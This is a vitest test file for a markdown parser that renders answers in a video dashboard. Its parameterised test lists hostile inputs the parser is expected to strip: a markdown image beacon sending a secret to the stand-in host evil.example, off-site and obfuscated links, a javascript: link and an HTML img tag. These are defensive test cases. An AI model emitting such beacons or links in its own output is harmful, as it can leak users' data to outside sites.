import { describe, expect, it } from 'vitest';
import { ownPath, parseAnswer } from './parse-answer.ts';

const origin = 'https://video.example';

describe('an answer', () => {
  it('has paragraphs, headings, lists, tables and code', () => {
    const text =
      '## Result\n**Two** failed:\n- `a`\n- b\n1. first\n\n| name | count |\n| --- | --- |\n| x | 3 |\n```json\n{"a": 1}\n```\nDone.';
    expect(parseAnswer(text, origin)).toEqual([
      { kind: 'heading', line: [{ kind: 'text', text: 'Result' }] },
      {
        kind: 'paragraph',
        line: [
          { kind: 'strong', text: 'Two' },
          { kind: 'text', text: ' failed:' },
        ],
      },
      {
        kind: 'list',
        isOrdered: false,
        items: [[{ kind: 'code', text: 'a' }], [{ kind: 'text', text: 'b' }], [{ kind: 'text', text: 'first' }]],
      },
      {
        kind: 'table',
        head: [[{ kind: 'text', text: 'name' }], [{ kind: 'text', text: 'count' }]],
        rows: [[[{ kind: 'text', text: 'x' }], [{ kind: 'text', text: '3' }]]],
      },
      { kind: 'code', text: '{"a": 1}' },
      { kind: 'paragraph', line: [{ kind: 'text', text: 'Done.' }] },
    ]);
  });

  it.each([
    '![beacon](https://evil.example/?d=secret)',
    '[click](https://evil.example/)',
    '[click](//evil.example/)',
    '[click](/\\evil.example/)',
    '[click](javascript:alert(1))',
    '<img src="https://evil.example/x">',
    'https://evil.example/x',
    '[![x](https://evil.example/i)](https://evil.example)',
  ])('has no image and no link to another site: %s', (text) => {
    const kinds = JSON.stringify(parseAnswer(text, origin));
    expect(kinds).not.toContain('"link"');
    expect(kinds).not.toContain('"path"');
  });

  it('links to screens of this dashboard', () => {
    expect(parseAnswer(`[it](/encoding/encodings/1) ${origin}/home?a=1`, origin)).toEqual([
      {
        kind: 'paragraph',
        line: [
          { kind: 'link', text: 'it', path: '/encoding/encodings/1' },
          { kind: 'text', text: ' ' },
          { kind: 'link', text: `${origin}/home?a=1`, path: '/home?a=1' },
        ],
      },
    ]);
    expect(ownPath('https://video.example.evil.example/', origin)).toBeUndefined();
  });

  it('that is being written is shown as far as it has come', () => {
    expect(parseAnswer('```\nlet a', origin)).toEqual([{ kind: 'code', text: 'let a' }]);
    expect(parseAnswer('', origin)).toEqual([]);
  });
});
